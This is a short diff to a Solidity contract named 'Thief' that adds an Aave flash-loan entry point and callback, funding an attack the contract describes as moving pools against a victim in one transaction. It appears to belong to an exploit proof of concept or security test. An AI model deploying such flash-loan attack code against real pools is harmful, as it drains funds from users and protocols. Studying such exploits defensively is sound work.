@@ -39,6 +39,11 @@ interface IPool {
     function token1() external view returns (address);
 }
 
+interface ILender {
+    function flashLoanSimple(address receiver, address asset, uint256 amount, bytes calldata params, uint16 code)
+        external;
+}
+
 struct Single {
     address tokenIn;
     address tokenOut;
@@ -169,6 +174,19 @@ contract Thief {
         strike();
         IToken(IPool(msg.sender).token0()).transfer(msg.sender, 1_000 + fee0);
         IToken(IPool(msg.sender).token1()).transfer(msg.sender, 1_000 + fee1);
+    }
+
+    /// @dev Aave's flash loan: the callback runs while the pool waits for its money.
+    function fromFlashLoan(ILender lender, IToken asset) external {
+        lender.flashLoanSimple(address(this), address(asset), 1_000_000, "", 0);
+    }
+
+    function executeOperation(address asset, uint256 amount, uint256 premium, address, bytes calldata)
+        external
+        returns (bool)
+    {
+        strike();
+        return IToken(asset).approve(msg.sender, amount + premium);
     }
 
     /// @dev Moves the pools against the victim, strikes, and moves them back, in one transaction.
